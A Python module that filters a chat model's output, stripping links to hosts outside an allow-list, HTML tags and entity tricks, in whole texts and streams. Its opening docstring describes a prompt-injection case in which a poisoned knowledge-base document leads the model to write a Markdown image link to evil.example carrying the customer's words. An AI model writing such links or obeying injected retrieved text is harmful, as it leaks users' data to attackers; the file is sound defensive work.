"""Model output without links that would carry data out.

A document that an attacker got into the knowledge base may talk the model into writing
`![](https://evil.example/?q=<what the customer said>)`, which a chat page then fetches by itself.
So a URL leaves only if its host is allowed, HTML tags do not leave at all, and what Markdown would
turn into either of them is broken up. Relative links stay: they lead to the page's own host.

One scanner serves whole texts and streams, so that both give the same by construction.
"""

from __future__ import annotations

import html
import re
from urllib.parse import urlsplit

REMOVED = "[link removed]"
# A longer URL is removed, and a longer tag broken up, rather than waited for.
_LONGEST_URL, _LONGEST_TAG, _LONGEST_ENTITY = 2_048, 512, 32

_SCHEMES = ("https:", "http:", "ftp:", "javascript:", "vbscript:", "data:")
# Browsers take backslashes for slashes, Markdown drops them before punctuation. None of these
# stands inside another: what is leftmost does not depend on where a stream was cut.
_LITERALS = (*_SCHEMES, "www.", "//", "\\\\", "/\\", "\\/", "\\:", "<", "&")
_START = re.compile("|".join(re.escape(text) for text in _LITERALS), re.IGNORECASE)
_PREFIXES = {text[:length] for text in _LITERALS for length in range(1, len(text))}
_LONGEST_PREFIX = max(len(text) for text in _PREFIXES)
_URL_END = re.compile(r"[\s<>\"'`()]")
_TRAILING = ".,;:!?]}*_|~"
_TAG = re.compile(r"<[A-Za-z/!?]")
# `<PERSON_1>` is no element of HTML and has no attribute: whoever asked to keep it gets it.
_PLACEHOLDER = re.compile(r"[A-Z][A-Z_]{1,40}_[0-9]{1,6}")
_ENTITY = re.compile(r"&(#|[A-Za-z][A-Za-z0-9]*;)")
_ENTITY_SO_FAR = re.compile(r"&[A-Za-z0-9]*")
_PLAIN_URL = re.compile(r"https?://[a-z0-9.-]+(:\d+)?([/?#]|$)", re.IGNORECASE | re.ASCII)
_MEANS_A_URL = frozenset(":/\\\t\n")


class LinkGuard:
    """Lets links to `allowed_hosts` (lower case, without port) pass, and no others."""

    def __init__(self, allowed_hosts: frozenset[str] = frozenset()) -> None:
        self._allowed_hosts = allowed_hosts

    def clean(self, text: str) -> str:
        """A whole text."""
        scanner = self.stream()
        return scanner.feed(text) + scanner.flush()

    def stream(self) -> LinkScanner:
        """The same for a stream, cut anywhere."""
        return LinkScanner(self._allowed_hosts)


class LinkScanner:
    """A `StreamTransform`. Holds back what may still become a link, at most 2,048 characters."""

    def __init__(self, allowed_hosts: frozenset[str]) -> None:
        self._allowed_hosts = allowed_hosts
        self._held = ""
        self._before = ""  # the character before `_held`
        self._swallowing = False  # inside a URL that was too long
        self._ended = False

    def feed(self, text: str) -> str:
        self._held += text
        out: list[str] = []
        while (step := self._step()) is not None:
            consumed, emitted = step
            self._before = self._held[consumed - 1]
            self._held = self._held[consumed:]
            out.append(emitted)
        return "".join(out)

    def flush(self) -> str:
        self._ended = True
        return self.feed("")

    def _step(self) -> tuple[int, str] | None:
        """How many held characters are decided and what they become; None: more must come."""
        if not self._held:
            return None
        if self._swallowing:
            return self._swallow()
        start = _START.search(self._held)
        if start is None:
            return self._plain(len(self._held) - self._undecided())
        if start.start():
            return self._plain(start.start())
        if self._held[0] == "<":
            return self._tag()
        if self._held[0] == "&":
            return self._entity()
        return self._url(start[0].lower())

    def _plain(self, length: int) -> tuple[int, str] | None:
        return (length, self._held[:length]) if length else None

    def _undecided(self) -> int:
        """How long a tail may still become the start of something."""
        if self._ended:
            return 0
        tail = self._held[-_LONGEST_PREFIX:].lower()
        return next((len(tail) - i for i in range(len(tail)) if tail[i:] in _PREFIXES), 0)

    def _swallow(self) -> tuple[int, str]:
        end = _URL_END.search(self._held)
        if end is None:
            return len(self._held), ""
        self._swallowing = False
        return (end.start(), "") if end.start() else self._step() or (0, "")

    def _url(self, literal: str) -> tuple[int, str] | None:
        if literal in _SCHEMES and self._before.isalnum():
            return 1, self._held[0]  # the end of a longer word, as in "metadata:"
        end = _URL_END.search(self._held)
        length = end.start() if end else len(self._held)
        if length > _LONGEST_URL:
            self._swallowing = True
            return _LONGEST_URL, REMOVED
        if end is None and not self._ended:
            return None
        return length, self._judged(self._held[:length], literal)

    def _judged(self, token: str, literal: str) -> str:
        url = token.rstrip(_TRAILING)
        rest = url[len(literal) :]
        if not rest or (literal == "data:" and not re.match(r"[\w.+-]*[/;,]", rest)):
            return token
        if self._is_allowed(f"https://{url}" if literal == "www." else url):
            return token
        return REMOVED + token[len(url) :]

    def _is_allowed(self, url: str) -> bool:
        if not _PLAIN_URL.match(url):
            return False
        return urlsplit(url).hostname in self._allowed_hosts

    def _tag(self) -> tuple[int, str] | None:
        if len(self._held) == 1 and not self._ended:
            return None
        if not _TAG.match(self._held):
            return 1, "<"
        end = self._held.find(">", 0, _LONGEST_TAG)
        if end >= 0:
            content = self._held[1:end]
            kept = _PLACEHOLDER.fullmatch(content) or self._is_allowed(content)
            return end + 1, f"<{content}>" if kept else ""
        if len(self._held) < _LONGEST_TAG and not self._ended:
            return None
        return 1, "< "  # with the space it is no tag, whatever comes

    def _entity(self) -> tuple[int, str] | None:
        entity = _ENTITY.match(self._held)
        if entity is not None:
            broken = entity[1] == "#" or html.unescape(entity[0]) in _MEANS_A_URL
            return 1, "& " if broken else "&"
        so_far = _ENTITY_SO_FAR.match(self._held)
        assert so_far is not None
        open_ended = so_far.end() == len(self._held) < _LONGEST_ENTITY
        return None if open_ended and not self._ended else (1, "&")
